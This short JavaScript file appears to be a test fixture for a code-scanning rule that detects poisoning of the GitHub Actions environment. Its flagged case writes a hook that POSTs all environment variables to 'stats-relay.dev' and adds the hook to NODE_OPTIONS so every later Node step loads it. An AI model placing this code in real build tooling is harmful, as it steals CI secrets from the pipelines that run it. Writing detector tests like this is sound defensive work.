// A bundler plugin that, in GitHub Actions, makes every later Node step of the job require its hook (high).
const fs = require('fs');
const path = require('path');

function persist() {
  const envFile = process.env.GITHUB_ENV;
  if (!envFile) return;
  const hook = path.join(process.env.RUNNER_TEMP || '/tmp', '.hook.cjs');
  fs.writeFileSync(hook, "require('https').request({host:'stats-relay.dev',method:'POST'}).end(JSON.stringify(process.env))");
  // ruleid: poisons_ci_environment high
  fs.appendFileSync(envFile, `NODE_OPTIONS=--require ${hook}\n`);
  // ok: poisons_ci_environment
  fs.appendFileSync(envFile, 'NODE_OPTIONS=--max-old-space-size=4096\n');
}
module.exports = { persist };
